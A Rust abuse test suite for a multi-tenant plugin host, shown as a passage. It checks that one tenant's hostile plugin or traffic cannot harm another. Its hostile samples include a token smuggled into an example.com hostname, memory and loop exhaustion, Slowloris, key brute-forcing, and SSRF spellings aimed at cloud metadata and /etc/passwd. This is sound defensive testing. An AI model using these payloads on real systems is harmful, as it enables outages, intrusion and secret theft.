//! The abuse suite: a hostile plugin, caller or upstream never hurts another tenant.
//!
//! Every case runs an attack and, at the same time, a well-behaved tenant (`good`, on the probe
//! plugin, answering 20 invoices without an upstream) making [`GOOD_CALLS`] calls; the good
//! tenant's calls must all succeed, and its slowest must stay under [`GOOD_BOUND`] (a generous
//! bound for a debug build on a loaded 2-core CI machine: it catches starvation, which costs the
//! whole attack's length, not jitter). `docs/security.md` lists each promise with its test here.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use futures_util::StreamExt as _;
use ponte_host::invoke::HostOptions;
use ponte_tests::{TENANT, TestHost, assert_problem, captured_logs, cpf, test_options};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

const CPF: &str = "714.602.380-01";
/// Calls the good tenant makes during each attack.
const GOOD_CALLS: usize = 20;
/// The good tenant's slowest call stays under this.
const GOOD_BOUND: Duration = Duration::from_secs(5);

/// The hostile plugin: each function is one attack.
const HOSTILE_MANIFEST: &str = r#"
name = "hostile"
version = "0.1.0"
runtime = "rhai"
functions = ["list_products", "list_totem_invoices", "get_customer", "list_plans", "list_blocked_plans", "list_due_dates", "list_commercial_origins",
             "list_resellers", "get_pending_issues", "get_customer_contacts"]
hosts = ["{base_url}"]
[settings.base_url]
[settings.token]
secret = true
"#;

const HOSTILE_SCRIPT: &str = r#"
// Values nested deeper and deeper: in an array, a map, a curried function pointer.
fn list_products(input) { let a = []; loop { a = [a]; } }
fn list_totem_invoices(input) { let m = #{}; loop { m = #{ inner: m }; } }
fn get_customer(input) { let f = Fn("get_customer"); loop { f = f.curry(f); } }

// Many live 16 MiB strings: each under the string limit, all together far over the budget.
fn list_plans(input) {
    let s = "x";
    while s.len() < 16777216 { s += s; }
    let keep = [];
    let i = 0;
    loop { keep.push(s + i); i += 1; }
}

// A slow upstream: holds its call for as long as the upstream takes.
fn list_blocked_plans(input) {
    let answer = http(#{ url: config("base_url") + "/slow" });
    []
}

// A secret in the URL's host and in the method.
fn list_due_dates(input) {
    let token = config("token");
    try { http(#{ url: "http://" + token + ".example.com/x" }); } catch (e) { log(e.message); }
    try { http(#{ url: config("base_url") + "/ok", method: token }); } catch (e) { log(e.message); }
    fail("upstream_error", "done");
}

// A new host per request: metric labels must not grow with them.
fn list_commercial_origins(input) {
    for i in 0..5000 { try { http(#{ url: "http://h" + i + ".example.com/" }); } catch (e) { } }
    []
}

// Fills the kv.
fn list_resellers(input) {
    for i in 0..5000 { kv_set("key-" + i, "a value of some length to fill the store faster"); }
    []
}

// Ten thousand upstream requests in one call, every refusal caught.
fn get_pending_issues(input) {
    for i in 0..10000 { try { http(#{ url: config("base_url") + "/ok" }); } catch (e) { } }
    []
}

// A runaway loop.
fn get_customer_contacts(input) { loop { } }
"#;

/// The attacker's automation on the hostile plugin, its upstream at `base_url`.
fn hostile_automation(base_url: &str, timeout: &str) -> String {
    format!(
        "tenant = \"{TENANT}\"\nallow_private = [\"127.0.0.1\"]\n[connections.h]\nplugin = \"hostile\"\ntimeout = \"{timeout}\"\n\
         settings = {{ base_url = \"{base_url}\", token = \"${{env:HOSTILE_TOKEN}}\" }}\n[functions]\n\
         list_products = \"h\"\nlist_totem_invoices = \"h\"\nget_customer = \"h\"\nlist_plans = \"h\"\nlist_blocked_plans = \"h\"\nlist_due_dates = \"h\"\n\
         list_commercial_origins = \"h\"\nlist_resellers = \"h\"\nget_pending_issues = \"h\"\nget_customer_contacts = \"h\"\n"
    )
}

/// The good tenant on the probe (`probe-rhai` or `probe-wasm`).
fn good_automation(plugin: &str) -> String {
    format!(
        "tenant = \"good\"\n[connections.p]\nplugin = \"{plugin}\"\ntimeout = \"5s\"\n[functions]\nlist_invoices = \"p\"\nget_customer = \"p\"\n"
    )
}

/// A mixed-case secret, so redaction must not depend on case.
const TOKEN: &str = "HoStIlE-SeCrEt-7f3a9c";

const OK: &[u8] =
    b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n[]";
const TOO_MANY: &[u8] =
    b"HTTP/1.1 429 Too Many Requests\r\nretry-after: 1\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";

/// A loopback upstream answering each request (one per connection) with what `answer` makes of
/// its head.
async fn loopback<F, Fut>(answer: F) -> String
where
    F: Fn(String) -> Fut + Clone + Send + 'static,
    Fut: std::future::Future<Output = &'static [u8]> + Send,
{
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let answer = answer.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 8192];
                let n = socket.read(&mut buf).await.unwrap_or(0);
                let reply = answer(String::from_utf8_lossy(&buf[..n]).into_owned()).await;
                let _ = socket.write_all(reply).await;
            });
        }
    });
    url
}

/// A loopback upstream: `/slow` answers after `delay`, anything else at once; 200 `[]`.
async fn upstream(delay: Duration) -> String {
    loopback(move |head| async move {
        if head.contains("/slow") {
            tokio::time::sleep(delay).await;
        }
        OK
    })
    .await
}

async fn metrics_text(host: &TestHost) -> String {
    host.send(host.request(reqwest::Method::GET, "/metrics")).await.body.as_str().unwrap_or_default().to_owned()
}

/// A host with the attacker (tenant `acme`, hostile plugin) and the good tenant.
async fn start(options: HostOptions, good_plugin: &str, upstream_url: &str, timeout: &str) -> (TestHost, String) {
    let attacker = ("hostile", HOSTILE_MANIFEST, HOSTILE_SCRIPT, hostile_automation(upstream_url, timeout));
    start_with(options, good_plugin, attacker).await
}

/// A host with the attacker (tenant `acme`: a plugin's name, manifest and script, and the
/// automation) and the good tenant on `good_plugin`; the good tenant's key.
async fn start_with(
    options: HostOptions,
    good_plugin: &str,
    (name, manifest, script, automation): (&str, &str, &str, String),
) -> (TestHost, String) {
    let host = TestHost::builder()
        .plugin(name, manifest, script)
        .automation(&format!("{TENANT}.toml"), automation)
        .automation("good.toml", good_automation(good_plugin))
        .var("HOSTILE_TOKEN", TOKEN)
        .options(options)
        .start()
        .await;
    assert!(host.config_errors.is_empty(), "{:?}", host.config_errors);
    host.host.store.ensure_tenant("good", "Good").await.expect("tenant");
    let key = host.host.store.create_api_key("good", &[ponte_contract::Scope::App], "good").await.expect("key").token;
    (host, key)
}

/// The good tenant's calls, made while an attack runs: every one succeeds, the slowest under
/// [`GOOD_BOUND`].
async fn good_tenant_is_served(host: &TestHost, key: &str) {
    let mut slowest = Duration::ZERO;
    for _ in 0..GOOD_CALLS {
        let started = Instant::now();
        let (status, body) = host.call(key, "list_invoices", json!({"customer_document_number": CPF})).await;
        slowest = slowest.max(started.elapsed());
        assert_eq!(status, 200, "the good tenant was hurt: {body}");
        assert_eq!(body.as_array().map(Vec::len), Some(20));
    }
    assert!(slowest < GOOD_BOUND, "the good tenant's slowest call took {slowest:?}");
}

/// Runs `attack` and the good tenant at once.
async fn beside<F: std::future::Future>(host: &TestHost, key: &str, attack: F) -> F::Output {
    let (out, ()) = tokio::join!(attack, good_tenant_is_served(host, key));
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_nested_without_bound_end_their_call_not_the_process() {
    let up = upstream(Duration::ZERO).await;
    let (host, good) = start(test_options(), "probe-rhai", &up, "3s").await;
    for (shape, function, input) in [
        ("array", "list_products", json!({})),
        ("map", "list_totem_invoices", json!({"customer_document_number": CPF})),
        ("curry", "get_customer", json!({"customer_document_number": CPF})),
    ] {
        let key = if function == "list_totem_invoices" { &host.totem_key } else { &host.app_key };
        let reply = beside(&host, &good, host.call_with(key, function, input, &[])).await;
        // The memory budget or the deadline stops it, whichever comes first on this machine:
        // both are the host's limits, and either way the process lives on.
        assert!([502, 504].contains(&reply.status.as_u16()), "{shape}: {}", reply.body);
    }
    good_tenant_is_served(&host, &good).await;
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_past_its_memory_budget_ends_with_a_clear_problem() {
    let up = upstream(Duration::ZERO).await;
    let (host, good) = start(test_options(), "probe-rhai", &up, "20s").await;
    let calls = futures_util::future::join_all(
        (0..4).map(|_| host.call_with(&host.app_key, "list_plans", json!({"customer_document_number": CPF}), &[])),
    );
    for reply in beside(&host, &good, calls).await {
        let body = assert_problem(&reply, 502, "plugin_failed");
        assert!(body["detail"].as_str().is_some_and(|d| d.contains("memory budget of 64 MiB")), "{body}");
    }
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_tenants_flood_of_slow_calls_never_takes_another_tenants_slots() {
    let up = upstream(Duration::from_secs(2)).await;
    let (host, good) = start(test_options(), "probe-rhai", &up, "5s").await;
    let refused = Arc::new(AtomicUsize::new(0));
    // Each for another customer: identical reads would share one run.
    let flood = futures_util::future::join_all((0..600).map(|n| {
        let refused = Arc::clone(&refused);
        let host = &host;
        async move {
            let reply = host
                .call_with(&host.app_key, "list_blocked_plans", json!({"customer_document_number": cpf(n + 1)}), &[])
                .await;
            match reply.status.as_u16() {
                200 => {}
                429 => {
                    assert_problem(&reply, 429, "rate_limited");
                    assert!(reply.headers.contains_key("retry-after"), "{:?}", reply.headers);
                    refused.fetch_add(1, Ordering::Relaxed);
                }
                other => panic!("the flood got {other}: {}", reply.body),
            }
        }
    }));
    beside(&host, &good, flood).await;
    assert!(refused.load(Ordering::Relaxed) > 0, "the connection's bulkhead refused nothing");
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn runaway_guests_of_either_runtime_end_on_time_and_never_freeze_the_server() {
    let up = upstream(Duration::ZERO).await;
    for (runaway_plugin, function) in [("probe-wasm", "get_customer"), ("hostile", "get_customer_contacts")] {
        let automation = if runaway_plugin == "hostile" {
            hostile_automation(&up, "1s")
        } else {
            format!(
                "tenant = \"{TENANT}\"\n[connections.p]\nplugin = \"probe-wasm\"\ntimeout = \"1s\"\n[functions]\nget_customer = \"p\"\n"
            )
        };
        let host = TestHost::builder()
            .plugin("hostile", HOSTILE_MANIFEST, HOSTILE_SCRIPT)
            .automation(&format!("{TENANT}.toml"), automation)
            .automation("good.toml", good_automation("probe-wasm"))
            .var("HOSTILE_TOKEN", TOKEN)
            .start()
            .await;
        assert!(host.config_errors.is_empty(), "{:?}", host.config_errors);
        host.host.store.ensure_tenant("good", "Good").await.expect("tenant");
        let good = host.host.store.create_api_key("good", &[ponte_contract::Scope::App], "g").await.expect("key").token;
        let shared = &host;
        let loops = futures_util::future::join_all((0..4).map(|n| async move {
            let started = Instant::now();
            let input = json!({"customer_document_number": cpf(n + 1)});
            let reply = shared.call_with(&shared.app_key, function, input, &[]).await;
            (reply, started.elapsed())
        }));
        for (reply, took) in beside(&host, &good, loops).await {
            // The deadline stops the loop (or, for a script, its operation budget first on a fast
            // machine): either way the call ends by its deadline plus the grace the host gives.
            assert!([502, 504].contains(&reply.status.as_u16()), "{runaway_plugin}: {}", reply.body);
            assert!(took < Duration::from_secs(4), "{runaway_plugin}: a 1 s call took {took:?}");
        }
        host.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_in_a_urls_host_or_in_the_method_never_reach_logs_metrics_or_the_invocation_log() {
    let up = upstream(Duration::ZERO).await;
    let (host, good) = start(test_options(), "probe-rhai", &up, "5s").await;
    let reply = beside(&host, &good, host.call_with(&host.app_key, "list_due_dates", json!({}), &[])).await;
    assert_problem(&reply, 502, "upstream_error");
    let metrics = metrics_text(&host).await;
    let log_rows = serde_json::to_string(&host.invocations().await).expect("json");
    let logs = captured_logs();
    for (place, text) in [("metrics", &metrics), ("invocation log", &log_rows), ("server log", &logs)] {
        let lower = text.to_ascii_lowercase();
        assert!(!lower.contains(&TOKEN.to_ascii_lowercase()), "the secret reached the {place}");
    }
    assert!(log_rows.contains("INVALID"), "a non-standard method is logged as INVALID: {log_rows}");
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugin_cant_grow_metrics_the_kv_or_the_invocation_log_without_bound() {
    let up = upstream(Duration::ZERO).await;
    let (host, good) = start(test_options(), "probe-rhai", &up, "20s").await;
    let before = metrics_text(&host).await.len();

    // 5,000 hosts in one call: refused past the per-call request cap, counted as `other`.
    let reply = beside(&host, &good, host.call_with(&host.app_key, "list_commercial_origins", json!({}), &[])).await;
    let body = assert_problem(&reply, 502, "plugin_failed");
    assert!(body["detail"].as_str().is_some_and(|d| d.contains("more than 200 upstream requests")), "{body}");
    let metrics = metrics_text(&host).await;
    assert!(metrics.len() < before + 16 * 1024, "/metrics grew from {before} to {} bytes", metrics.len());
    assert!(metrics.contains("host=\"other\""), "hosts outside the manifest are counted as `other`");

    // 10,000 requests to a declared host: 200 sent, the row keeps 100 and says so.
    let reply = beside(
        &host,
        &good,
        host.call_with(&host.app_key, "get_pending_issues", json!({"customer_document_number": CPF}), &[]),
    )
    .await;
    assert_problem(&reply, 502, "plugin_failed");
    let rows = host.invocations().await;
    let row = rows.iter().find(|r| r.function == "get_pending_issues").expect("logged");
    let logged = row.upstream_calls.as_array().map_or(0, Vec::len);
    assert_eq!(logged, ponte_host::invoke::MAX_LOGGED_UPSTREAM, "{row:?}");
    assert!(row.detail.as_deref().is_some_and(|d| d.contains("upstream requests left out of this log")), "{row:?}");

    // A kv filled in a loop: refused past its cap, and the store holds no more than the cap.
    let reply = beside(&host, &good, host.call_with(&host.app_key, "list_resellers", json!({}), &[])).await;
    let body = assert_problem(&reply, 502, "plugin_failed");
    assert!(body["detail"].as_str().is_some_and(|d| d.contains("kv is full")), "{body}");
    let (entries, _) = host.host.store.kv_usage(&format!("{TENANT}/h"), "").await.expect("usage");
    assert!(entries <= ponte_host::capabilities::kv::MAX_ENTRIES, "{entries} entries");
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_past_its_rate_gets_429_with_retry_after_and_other_keys_are_not_affected() {
    let up = upstream(Duration::ZERO).await;
    let options =
        HostOptions { key_rate: Some(ponte_host::ratelimit::KeyRate { per_second: 2, burst: 5 }), ..test_options() };
    let (host, good) = start(options, "probe-rhai", &up, "5s").await;
    let mut limited = None;
    for _ in 0..20 {
        let reply =
            host.call_with(&host.totem_key, "list_invoices", json!({"customer_document_number": CPF}), &[]).await;
        if reply.status == 429 {
            limited = Some(reply);
            break;
        }
    }
    let limited = limited.expect("a burst past the key's rate is refused");
    assert_problem(&limited, 429, "rate_limited");
    let retry: u64 = limited.headers["retry-after"].to_str().expect("text").parse().expect("seconds");
    assert!((1..=2).contains(&retry), "{retry}");
    // The good tenant's key has its own budget (5 calls in a burst, then 2 a second).
    for _ in 0..5 {
        let (status, body) = host.call(&good, "list_invoices", json!({"customer_document_number": CPF})).await;
        assert_eq!(status, 200, "{body}");
    }
    host.stop().await;
}

/// Made-up tokens from one address (a brute force, or a flood meant to reach the store): past
/// the address's budget of reads for keys the host doesn't hold, `429` before the store is read;
/// a key the host holds, from the same address, is never refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn made_up_keys_from_one_address_are_limited_before_the_store_and_held_keys_pass() {
    let up = upstream(Duration::ZERO).await;
    let (host, good) = start(test_options(), "probe-rhai", &up, "5s").await;
    // The good key is held once it has been used.
    assert_eq!(host.call(&good, "list_invoices", json!({"customer_document_number": CPF})).await.0, 200);
    let flood = futures_util::stream::iter(0..400u32)
        .map(|n| {
            let host = &host;
            async move {
                let token = format!("ponte_{n:012x}_{}", "A".repeat(32));
                host.call_with(&token, "list_invoices", json!({"customer_document_number": CPF}), &[]).await
            }
        })
        .buffer_unordered(16)
        .collect::<Vec<_>>();
    let replies = beside(&host, &good, flood).await;
    let limited: Vec<_> = replies.iter().filter(|r| r.status == 429).collect();
    let unknown = replies.iter().filter(|r| r.status == 401).count();
    assert_eq!(limited.len() + unknown, 400, "every made-up key is refused");
    // A burst of 100, then 20 a second: far fewer than 400 reach the store.
    assert!(unknown <= 200, "{unknown} made-up keys reached the store");
    let first = limited.first().expect("the flood was limited");
    let body = assert_problem(first, 429, "rate_limited");
    assert!(body["detail"].as_str().is_some_and(|d| d.contains("unknown API keys")), "{body}");
    assert!(first.headers.contains_key("retry-after"));
    // The budget is the address's: another client (127.0.0.2) is still told its key is unknown.
    let elsewhere = reqwest::Client::builder()
        .local_address(std::net::IpAddr::from([127, 0, 0, 2]))
        .build()
        .expect("a client bound to 127.0.0.2");
    let reply = elsewhere
        .post(format!("{}/v1/functions/list_invoices", host.base_url))
        .bearer_auth(format!("ponte_{:012x}_{}", 999_999, "B".repeat(32)))
        .json(&json!({"customer_document_number": CPF}))
        .send()
        .await
        .expect("an answer");
    assert_eq!(reply.status(), 401, "another address has its own budget");
    host.stop().await;
}

/// A key's first calls arriving together (a shop's app backend right after a restart, or after
/// any key changed on any replica) share one read of the store: none of them is refused for the
/// address's budget of reads for keys the host doesn't hold, however small that budget.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_of_a_cold_keys_first_calls_is_never_refused_for_the_unknown_key_budget() {
    let up = upstream(Duration::ZERO).await;
    let mut options = test_options();
    options.key_rate = None;
    options.unknown_key_rate = Some(ponte_host::ratelimit::KeyRate { per_second: 1, burst: 2 });
    let (host, good) = start(options, "probe-rhai", &up, "5s").await;
    // `GET /v1/functions` authenticates like a call and runs no plugin: only the key is tested.
    let replies = futures_util::stream::iter(0..200u32)
        .map(|_| {
            let (host, good) = (&host, &good);
            async move { host.send(host.request(reqwest::Method::GET, "/v1/functions").bearer_auth(good)).await }
        })
        .buffer_unordered(200)
        .collect::<Vec<_>>()
        .await;
    let refused: Vec<_> = replies.iter().filter(|r| r.status != 200).map(|r| (r.status, r.body.clone())).collect();
    assert!(refused.is_empty(), "{} of 200 first calls refused: {:?}", refused.len(), refused.first());
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_and_greedy_connections_never_keep_others_out() {
    let up = upstream(Duration::ZERO).await;
    let mut options = test_options();
    options.listener.max_connections = 64;
    options.listener.header_read_timeout = Duration::from_millis(800);
    let (host, good) = start(options, "probe-rhai", &up, "5s").await;
    let address = host.base_url.trim_start_matches("http://").to_owned();
    // Slowloris: 300 connections (over four times the cap) that never finish a request head.
    let mut partial = Vec::new();
    for _ in 0..300 {
        let mut socket = tokio::net::TcpStream::connect(&address).await.expect("connect");
        let _ = socket.write_all(b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-slow: ").await;
        partial.push(socket);
    }
    let health = host.send(host.request(reqwest::Method::GET, "/healthz")).await;
    assert_eq!(health.status, 200, "{}", health.body);
    good_tenant_is_served(&host, &good).await;
    // Every partial connection is closed by the server: evicted, or at its header timeout.
    for mut socket in partial {
        let mut buf = [0u8; 512];
        let read = tokio::time::timeout(Duration::from_secs(10), socket.read(&mut buf)).await;
        assert!(read.is_ok(), "a partial request was held open past the header timeout");
    }

    // Oversized headers and a malformed head: problem documents, not hyper's bare answers.
    let big = "x".repeat(64 * 1024);
    let reply = host.send(host.request(reqwest::Method::GET, "/healthz").header("x-big", big)).await;
    assert_problem(&reply, 431, "headers_too_large");
    let mut socket = tokio::net::TcpStream::connect(&address).await.expect("connect");
    socket.write_all(b"NOT A REQUEST\r\n\r\n").await.expect("write");
    let mut answer = String::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), socket.read_to_string(&mut answer)).await;
    assert!(answer.starts_with("HTTP/1.1 400 "), "{answer}");
    assert!(answer.contains("application/problem+json") && answer.contains("\"bad_request\""), "{answer}");

    // A body trickled past the body timeout: 408, as a problem.
    let mut socket = tokio::net::TcpStream::connect(&address).await.expect("connect");
    let head = format!(
        "POST /v1/functions/list_invoices HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {good}\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{{"
    );
    socket.write_all(head.as_bytes()).await.expect("write");
    let mut answer = String::new();
    let _ = tokio::time::timeout(Duration::from_secs(30), socket.read_to_string(&mut answer)).await;
    assert!(answer.starts_with("HTTP/1.1 408 "), "{answer}");
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upstreams_declared_rate_is_kept_and_its_429s_are_waited_out_not_counted_as_failures() {
    // An upstream that allows 5 requests a second and answers 429 (Retry-After: 1) past that.
    let times = Arc::new(std::sync::Mutex::new(Vec::<Instant>::new()));
    let refused = Arc::new(AtomicUsize::new(0));
    let url = {
        let (times, refused) = (Arc::clone(&times), Arc::clone(&refused));
        loopback(move |_| {
            let (times, refused) = (Arc::clone(&times), Arc::clone(&refused));
            async move {
                let now = Instant::now();
                let mut times = times.lock().expect("lock");
                times.push(now);
                if times.iter().filter(|t| now.duration_since(**t) < Duration::from_secs(1)).count() > 5 {
                    refused.fetch_add(1, Ordering::Relaxed);
                    TOO_MANY
                } else {
                    OK
                }
            }
        })
        .await
    };
    let manifest = r#"
name = "paced"
version = "0.1.0"
runtime = "rhai"
functions = ["list_plans"]
hosts = ["{base_url}"]
[settings.base_url]
[rate_limit]
requests = 4
per = "1s"
burst = 1
"#;
    let script = r#"
fn list_plans(input) {
    for i in 0..3 {
        let r = http(#{ url: config("base_url") + "/x" });
        if r.status == 429 { fail("upstream_unavailable", "rate limited"); }
    }
    []
}"#;
    let automation = |timeout: &str| {
        format!(
            "tenant = \"{TENANT}\"\nallow_private = [\"127.0.0.1\"]\n[connections.erp]\nplugin = \"paced\"\ntimeout = \"{timeout}\"\n\
             settings = {{ base_url = \"{url}\" }}\n[functions]\nlist_plans = \"erp\"\n"
        )
    };
    let host = TestHost::builder()
        .plugin("paced", manifest, script)
        .automation(&format!("{TENANT}.toml"), automation("10s"))
        .start()
        .await;
    assert!(host.config_errors.is_empty(), "{:?}", host.config_errors);
    // Four calls of three requests at once (for four customers: identical reads would share one
    // run): twelve requests, paced at four a second.
    let replies =
        futures_util::future::join_all((0..4).map(|n| {
            host.call_with(&host.app_key, "list_plans", json!({"customer_document_number": cpf(n + 1)}), &[])
        }))
        .await;
    for reply in &replies {
        assert_eq!(reply.status, 200, "{}", reply.body);
    }
    assert_eq!(refused.load(Ordering::Relaxed), 0, "the host sent faster than the declared rate");
    let metrics = metrics_text(&host).await;
    assert!(!metrics.contains("ponte_circuits_opened_total{"), "{metrics}");
    host.stop().await;

    // A deadline too short for the next turn: 429 with Retry-After at once, nothing sent.
    let host = TestHost::builder()
        .plugin("paced", manifest, script)
        .automation(&format!("{TENANT}.toml"), automation("300ms"))
        .start()
        .await;
    let replies: Vec<_> =
        futures_util::future::join_all((0..3).map(|n| {
            host.call_with(&host.app_key, "list_plans", json!({"customer_document_number": cpf(n + 1)}), &[])
        }))
        .await;
    let limited = replies.iter().find(|r| r.status == 429).expect("a call with no turn before its deadline");
    assert_problem(limited, 429, "rate_limited");
    assert!(limited.headers.contains_key("retry-after"));
    host.stop().await;
}

/// The upstream answers 429 with `Retry-After` that fits the deadline: the host waits and sends
/// again, the plugin sees the answer, and the circuit stays closed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upstream_429_within_the_deadline_is_retried_after_its_retry_after() {
    let seen = Arc::new(AtomicUsize::new(0));
    let url = {
        let seen = Arc::clone(&seen);
        loopback(move |_| {
            let first = seen.fetch_add(1, Ordering::Relaxed) == 0;
            async move { if first { TOO_MANY } else { OK } }
        })
        .await
    };
    let manifest = "name = \"retrying\"\nversion = \"0.1.0\"\nruntime = \"rhai\"\nfunctions = [\"list_due_dates\"]\nhosts = [\"{base_url}\"]\n[settings.base_url]\n";
    let script = "fn list_due_dates(input) { let r = http(#{ url: config(\"base_url\") + \"/x\" }); if r.status != 200 { fail(\"upstream_error\", \"HTTP \" + r.status); } [] }";
    let automation = format!(
        "tenant = \"{TENANT}\"\nallow_private = [\"127.0.0.1\"]\n[connections.erp]\nplugin = \"retrying\"\ntimeout = \"5s\"\n\
         settings = {{ base_url = \"{url}\" }}\n[functions]\nlist_due_dates = \"erp\"\n"
    );
    let host = TestHost::builder()
        .plugin("retrying", manifest, script)
        .automation(&format!("{TENANT}.toml"), automation)
        .start()
        .await;
    let (status, body) = host.call(&host.app_key, "list_due_dates", json!({})).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(seen.load(Ordering::Relaxed), 2);
    let rows = host.invocations().await;
    let calls: Vec<Value> = rows[0].upstream_calls.as_array().cloned().unwrap_or_default();
    assert_eq!(calls.iter().map(|c| c["status"].clone()).collect::<Vec<_>>(), [json!(429), json!(200)]);
    host.stop().await;

    // A wait longer than the deadline: the plugin sees the 429 and calls the upstream
    // unavailable; the caller is told it is a rate limit, with the upstream's own Retry-After.
    let url = loopback(|_| async {
        b"HTTP/1.1 429 Too Many Requests\r\nretry-after: 120\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
            .as_slice()
    })
    .await;
    let script = "fn list_due_dates(input) { let r = http(#{ url: config(\"base_url\") + \"/x\" }); if r.status == 429 { fail(\"upstream_unavailable\", \"slow down\"); } [] }";
    let automation = format!(
        "tenant = \"{TENANT}\"\nallow_private = [\"127.0.0.1\"]\n[connections.erp]\nplugin = \"retrying\"\ntimeout = \"5s\"\n\
         settings = {{ base_url = \"{url}\" }}\n[functions]\nlist_due_dates = \"erp\"\n"
    );
    let host = TestHost::builder()
        .plugin("retrying", manifest, script)
        .automation(&format!("{TENANT}.toml"), automation)
        .start()
        .await;
    let reply = host.call_with(&host.app_key, "list_due_dates", json!({}), &[]).await;
    assert_problem(&reply, 429, "rate_limited");
    assert_eq!(reply.headers["retry-after"], "120");
    host.stop().await;
}

/// Inward addresses in every spelling, and an answer announcing 100 MB: each refused by the
/// egress policy or the size cap, and nothing reaches the loopback service behind them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ssrf_spellings_and_a_huge_answer_are_refused() {
    let reached = Arc::new(AtomicUsize::new(0));
    let inward = {
        let reached = Arc::clone(&reached);
        loopback(move |_| {
            reached.fetch_add(1, Ordering::Relaxed);
            async { OK }
        })
        .await
    };
    let port = inward.rsplit(':').next().unwrap_or_default().to_owned();
    let huge = loopback(|_| async {
        b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 104857600\r\nconnection: close\r\n\r\n["
            .as_slice()
    })
    .await;
    let manifest = r#"
name = "ssrf"
version = "0.1.0"
runtime = "rhai"
functions = ["list_due_dates", "list_plans"]
hosts = ["{inward}", "{huge}"]
[settings.inward]
[settings.huge]
"#;
    let script = format!(
        r#"
fn list_due_dates(input) {{
    let refused = [];
    for url in ["{inward}/", "http://localhost:{port}/", "http://127.1:{port}/", "http://0x7f000001:{port}/",
                "http://2130706433:{port}/", "http://[::1]:{port}/", "http://[::ffff:127.0.0.1]:{port}/",
                "http://169.254.169.254/latest/meta-data/", "http://0.0.0.0:{port}/", "file:///etc/passwd"] {{
        try {{ http(#{{ url: url }}); }} catch (e) {{ refused.push(e.code); }}
    }}
    [#{{ code: "" + refused.len(), name: refused.reduce(|a, b| a + " " + b, "") }}]
}}
fn list_plans(input) {{ http(#{{ url: config("huge") + "/" }}); [] }}
"#
    );
    // The tenant allows no private address: the declared loopback service is refused too.
    let automation = format!(
        "tenant = \"{TENANT}\"\n[connections.s]\nplugin = \"ssrf\"\ntimeout = \"5s\"\n\
         settings = {{ inward = \"{inward}\", huge = \"{huge}\" }}\n[functions]\nlist_due_dates = \"s\"\nlist_plans = \"s\"\n"
    );
    let (host, good) = start_with(test_options(), "probe-rhai", ("ssrf", manifest, &script, automation)).await;
    let reply = beside(&host, &good, host.call_with(&host.app_key, "list_due_dates", json!({}), &[])).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    assert_eq!(reply.body[0]["code"], "10", "every spelling is refused: {}", reply.body);
    assert!(
        reply.body[0]["name"]
            .as_str()
            .is_some_and(|codes| codes.split(' ').all(|c| c.is_empty() || c == "denied" || c == "invalid")),
        "{}",
        reply.body
    );
    assert_eq!(reached.load(Ordering::Relaxed), 0, "a request reached the loopback service");
    host.stop().await;

    // With loopback allowed, the 100 MB answer is refused on its announced length, never read.

    let automation = format!(
        "tenant = \"{TENANT}\"\nallow_private = [\"127.0.0.1\"]\n[connections.s]\nplugin = \"ssrf\"\ntimeout = \"5s\"\n\
         settings = {{ inward = \"{inward}\", huge = \"{huge}\" }}\n[functions]\nlist_due_dates = \"s\"\nlist_plans = \"s\"\n"
    );
    let (host, good) = start_with(test_options(), "probe-rhai", ("ssrf", manifest, &script, automation)).await;
    let reply = beside(
        &host,
        &good,
        host.call_with(&host.app_key, "list_plans", json!({"customer_document_number": CPF}), &[]),
    )
    .await;
    let body = assert_problem(&reply, 502, "upstream_error");
    assert!(body["detail"].as_str().is_some_and(|d| d.contains("exceeded")), "{body}");
    host.stop().await;
}

/// At the connection cap, connections that wait (for a head, or between requests) make room;
/// one whose request is running, plugin call included, is never closed to make room.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_running_call_is_never_evicted_to_make_room() {
    let up = upstream(Duration::from_secs(2)).await;
    let mut options = test_options();
    options.listener.max_connections = 8;
    options.listener.header_read_timeout = Duration::from_secs(5);
    let (host, _good) = start(options, "probe-rhai", &up, "10s").await;
    let address = host.base_url.trim_start_matches("http://").to_owned();
    let slow = host.call_with(&host.app_key, "list_blocked_plans", json!({"customer_document_number": CPF}), &[]);
    let flood = async {
        tokio::time::sleep(Duration::from_millis(300)).await;
        let mut partial = Vec::new();
        for _ in 0..40 {
            if let Ok(mut socket) = tokio::net::TcpStream::connect(&address).await {
                let _ = socket.write_all(b"GET /healthz HTTP/1.1\r\nhost: x\r\n").await;
                partial.push(socket);
            }
        }
        partial
    };
    let (reply, _partial) = tokio::join!(slow, flood);
